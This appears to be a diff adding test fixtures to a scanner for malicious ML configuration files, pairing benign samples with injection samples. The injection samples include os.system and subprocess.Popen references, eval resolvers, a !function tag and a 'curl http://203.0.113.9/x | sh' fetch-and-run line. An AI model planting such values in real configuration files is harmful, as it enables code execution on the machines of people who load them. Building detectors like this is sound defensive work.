@@ -46,6 +46,50 @@ file(
     "configuration",
 )
 
+_ROWS = "nc: 80\nbackbone:\n  - [-1, 1, {}, [64, 3]]\n"
+_EXPRESSION = "__import__('os').system('echo stannary')"
+file("yaml.yolo_code", "model.yaml", _ROWS.format(f'"{_EXPRESSION}"'), "configuration")
+file("yaml.yolo_plain", "model.yaml", _ROWS.format("Conv"), "configuration", malicious=False)
+file("yaml.resolver_code", "config.yaml", f"x: ${{eval:{_EXPRESSION}}}\n", "configuration")
+file(
+    "yaml.interpolations",
+    "config.yaml",
+    "x: ${oc.env:HOME}\ny: ${model.size}\nz: eval (see below)\n",
+    "configuration",
+    malicious=False,
+)
+file("yaml.method_of_name", "config.yaml", "x:\n  _target_: hydra.utils.get_class\n  path: subprocess.Popen\n", "configuration")
+file("yaml.function_tag", "task.yaml", "task: x\ndoc_to_text: !function os.system\n", "configuration")
+file(
+    "yaml.function_tag_plain", "task.yaml", "task: x\ndoc_to_text: !function utils.doc_to_text\n", "configuration", malicious=False
+)
+file("yaml.plugins", "train.yaml", "base_model: x\nplugins:\n- os.system\n", "configuration")
+file("yaml.plugins_plain", "train.yaml", "plugins:\n- axolotl.integrations.liger.LigerPlugin\n", "configuration", malicious=False)
+file("yaml.pipe_of_kaldi", "conf.yaml", 'wav_scp: "curl http://203.0.113.9/x | sh |"\n', "configuration")
+file("yaml.env_pip", "env.yaml", "dependencies:\n- pip:\n  - --extra-index-url http://203.0.113.9/\n", "configuration")
+file("json.settings_fetch", "settings.json", json.dumps({"anything": "curl http://203.0.113.9/x | sh"}), "configuration")
+file("json.document_in_text", "run.json", json.dumps({"config": json.dumps({"model": {"_target_": "os.system"}})}), "configuration")
+file(
+    "json.type_of_component",
+    "pipeline.json",
+    json.dumps({"components": [{"type": "subprocess.Popen", "params": {}}]}),
+    "configuration",
+)
+file(
+    "json.flow_source",
+    "flow.json",
+    json.dumps({"node": {"code": {"value": "import os\nos.system('echo stannary')\n"}}}),
+    "configuration",
+)
+file(
+    "json.flow_source_plain",
+    "flow.json",
+    json.dumps({"node": {"type": "langflow.components.Prompt", "code": "from langflow import C\n\nclass X(C):\n    pass\n"}}),
+    "configuration",
+    malicious=False,
+)
+file("json.yolo_code", "model.json", json.dumps({"backbone": [[-1, 1, _EXPRESSION, [64]]]}), "configuration")
+
 file("json.tokenizer_class", "tokenizer_config.json", json.dumps({"tokenizer_class": "os.system"}), "JSON with code tags")
 file(
     "json.tokenizer_class_plain",
